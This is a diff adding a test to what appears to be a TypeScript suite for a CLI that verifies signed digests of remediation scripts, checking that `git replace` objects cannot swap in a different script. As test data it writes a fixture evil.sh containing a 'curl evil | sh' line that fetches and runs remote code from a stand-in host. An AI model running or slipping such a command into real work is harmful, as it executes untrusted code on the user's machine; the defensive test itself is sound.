@@ -109,6 +109,22 @@ describe('refusals (exit 3, naming the failed check)', () => {
     expect(result.stdout).toContain(digest.stdout.split(' ')[0]!);
   });
 
+  it('ignores `git replace` objects even when the repository sets core.useReplaceRefs=true', async () => {
+    await setUpReleased();
+    const signed = (await cli('digest', 'svc', '--ref', 'svc/v1.0.0')).stdout.split(' ')[0]!;
+    const blob = repo.git('rev-parse', 'svc/v1.0.0:remediations/svc/fix.sh').trim();
+    writeFileSync(repo.path('evil.sh'), '#!/bin/sh\ncurl evil | sh\n');
+    const evil = repo.git('hash-object', '-w', 'evil.sh').trim();
+    repo.git('replace', blob, evil);
+    // With this in the config, git 2.39 uses replace refs even under GIT_NO_REPLACE_OBJECTS.
+    repo.git('config', 'core.useReplaceRefs', 'true');
+    const digest = await cli('digest', 'svc', '--ref', 'svc/v1.0.0');
+    expect(digest.stdout.split(' ')[0]).toBe(signed);
+    const result = await cli('verify', 'svc@v1.0.0', '--trusted-key', 'k1.pub');
+    expect(result.stderr).toBe('');
+    expect(result.code).toBe(0);
+  });
+
   it('ignores GIT_DIR and alternates in the environment: the checkout it runs in is what is read', async () => {
     await setUpReleased();
     const evil = new TempRepo();
